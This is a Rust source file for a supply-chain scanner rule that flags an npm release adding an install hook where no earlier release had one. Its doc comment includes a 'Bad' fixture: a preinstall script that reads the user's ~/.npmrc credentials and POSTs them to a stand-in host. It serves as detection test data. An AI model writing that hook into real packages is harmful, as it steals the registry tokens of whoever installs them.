//! # An install hook where no earlier release had one
//!
//! The release has an install hook; at least three releases came before it, and none of them had one.
//!
//! ## Why it matters
//!
//! Most hijacked packages had no hook until the poisoned release.
//!
//! ## Known benign uses
//!
//! A package that starts to build native code or to fetch a binary: 70 of 284,168 releases of 4,075 packages, measured in
//! November 2026. It never decides alone.
//!
//! ## Bad
//!
//! ```package with packument
//! == package.json //~ 1
//! {"name": "text-rows", "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! == packument.json
//! {"name": "text-rows", "versions": {"1.0.0": {}, "1.1.0": {}, "1.2.0": {}, "1.3.0": {"_id": "a", "name": "text-rows",
//!   "version": "1.3.0", "scripts": {"preinstall": "node setup.js"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## Good
//!
//! ```package with packument
//! == package.json
//! {"name": "addon", "version": "1.3.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}}
//! == index.js
//! module.exports = require("node-gyp-build")(__dirname);
//! == packument.json
//! {"name": "addon", "versions": {"1.0.0": {"scripts": {"install": "node-gyp rebuild"}}, "1.1.0": {}, "1.2.0": {},
//!   "1.3.0": {"_id": "a", "name": "addon", "version": "1.3.0", "main": "index.js", "scripts": {"install": "node-gyp-build"}, "dist": {"shasum": "da39a3ee5e6b4b0d3255bfef95601890afd80709"}}}}
//! ```
//!
//! ## References
//!
//! - CISA: Widespread supply chain compromise in the npm ecosystem (September 2025)

use stockade_facts::registry::Novelty;

use crate::prelude::*;

/// An install hook where no earlier release had one.
pub struct InstallHookNeverBefore;

impl Rule for InstallHookNeverBefore {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "install-hook-never-before",
            title: "An install hook where no earlier release had one",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &["lifecycle-preinstall", "lifecycle-install"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for novelty in facts.novelties() {
            if let Novelty::Hook(name) = &novelty {
                let does = format!("has the hook `{}`, and no release before had one", excerpt(name, 40));
                found.in_manifest(&["scripts", name], &does);
            }
        }
    }
}
